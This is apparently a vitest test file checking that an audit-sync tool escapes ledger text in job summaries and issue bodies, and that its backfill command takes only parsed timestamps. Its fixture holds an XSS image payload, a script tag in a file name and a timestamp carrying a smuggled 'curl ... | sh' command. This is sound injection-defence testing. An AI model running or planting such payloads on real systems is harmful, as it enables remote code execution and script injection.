import { describe, expect, it } from 'vitest'
import type { OpenFailure } from '../../src/branch/ledger.js'
import { emptyCollectionStats } from '../../src/collect/collect.js'
import { emptyCommitReport } from '../../src/commit/commit-report.js'
import { renderIssueBody } from '../../src/report/failure-issue-text.js'
import { renderPlanSummary, renderSyncSummary } from '../../src/report/summary.js'

/** A failed window as a hand-edited ledger may hold it: markup, a mention, a shell command. */
const forged: OpenFailure = {
  type: 'Audit.General',
  start: '<img src=x onerror=alert(1)> @admin',
  end: '2026-11-21T11:00:00Z; curl https://example.invalid | sh',
  code: '<b>AF</b>',
  message: 'see #1 and @octocat',
  attempts: 1,
  firstFailure: '',
  lastFailure: ''
}
const readable: OpenFailure = { ...forged, start: '2026-11-21T10:00:00Z', end: '2026-11-21T11:00:00Z' }
const links = { branch: { name: 'audit-data' }, commitUrl: () => undefined }
const context = { branch: 'audit-data', now: new Date('2026-11-21T13:00:00Z'), workflowFile: 'audit-sync.yml' }

describe('text from the ledger and the workspace in what the run writes', () => {
  it('is escaped in the job summary: no markup, no mention', () => {
    const report = emptyCommitReport({ open: [forged], recovered: [], newGaps: [] }, [])
    const html = renderSyncSummary({ stats: emptyCollectionStats(), report }, 'Backfill.', links)
    expect(html).not.toContain('<img')
    expect(html).not.toContain('<b>AF</b>')
    expect(html).not.toMatch(/@admin/)
    // The window is there, as text.
    expect(html).toContain('&lt;img src=x')
    expect(html).toContain('@\u200badmin')
    const plan = renderPlanSummary(
      { mode: 'backfill', from: new Date(0), to: new Date(0), windowMs: 60_000, windows: [], notes: [] },
      'Plan.',
      ['Would import exports/<script>x</script>.csv'],
      false
    )
    expect(plan).not.toContain('<script>')
    expect(plan).toContain('&lt;script&gt;')
  })

  it('never reaches the backfill command in the issue: that is built from instants read back as instants', () => {
    const body = renderIssueBody([forged, readable], [], context)
    const command = body.split('\n').find((line) => line.startsWith('gh workflow run'))
    expect(command).toBe('gh workflow run audit-sync.yml -f start=2026-11-21T10:00:00Z -f end=2026-11-21T11:00:00Z')
    expect(command).not.toContain('curl')
    // In the table it is text: escaped, no live mention or cross-reference.
    expect(body).not.toContain('<img')
    expect(body).not.toMatch(/@admin|@octocat|#1\b/)
    expect(body).toContain('&lt;img src=x')
    expect(body).toContain('@\u200badmin')
    expect(body).toContain('#\u200b1')
    expect(renderIssueBody([forged], [], context)).not.toContain('gh workflow run')
  })
})
